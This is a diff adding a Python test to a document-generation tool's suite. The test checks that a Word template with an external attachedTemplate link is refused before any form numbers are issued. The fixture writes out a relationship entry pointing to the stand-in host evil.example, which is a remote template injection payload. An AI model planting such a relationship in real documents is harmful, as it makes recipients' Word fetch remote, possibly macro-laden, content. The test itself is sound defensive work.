@@ -78,3 +78,36 @@ def test_a_nul_in_the_output_folder_the_documents_path_or_the_register_url_is_a_
         kesu_docs.render_document(complaint(), f"{tmp_path}/d\0.docx")
     assert "output" in raised.value.message("en")
     assert sorted(p.name for p in tmp_path.iterdir()) == ["inbox", "k.db"]
+
+
+# ------------------------------------------------------------------ a refused template numbers nothing
+def test_a_refused_template_numbers_no_form_and_the_next_run_starts_at_the_first_number(tmp_path):
+    """Before: each form of a batch whose template is refused (Word would fetch from a server)
+    was numbered, then failed: 001–003 issued for nothing, the next run began at 004. Now the
+    template is looked at before any number is issued; other kinds are numbered as before."""
+    from hostile import complaint as sample_record
+    from hostile import write_json
+    from test_attack27 import _RELS, _kesu_render, _template_with
+
+    bad = _template_with(
+        tmp_path / "bad",
+        {
+            "word/_rels/settings.xml.rels": f'<Relationship Id="rId1" Type="{_RELS}attachedTemplate" '
+            'Target="http://evil.example/t.dotm" TargetMode="External"/>'
+        },
+    )
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    for i in range(3):
+        write_json(inbox / f"c{i}.json", sample_record(customer=f"Customer {i}"))
+    db = tmp_path / "k.db"
+    done = _kesu_render(tmp_path, inbox, tmp_path / "out", db, "--lang", "en", KESU_TEMPLATES=str(bad))
+    said = " ".join(done.stdout.split())
+    assert done.returncode == 1 and "fetches from outside the file" in said, done.stdout + done.stderr
+    with Register.open(db) as reg:
+        assert reg.documents() == []  # no number issued for nothing
+    assert not list((tmp_path / "out").glob("*.docx"))
+    done = _kesu_render(tmp_path, inbox, tmp_path / "out", db)
+    assert done.returncode == 0, done.stdout + done.stderr
+    with Register.open(db) as reg:
+        assert sorted(d.number[-3:] for d in reg.documents()) == ["001", "002", "003"]
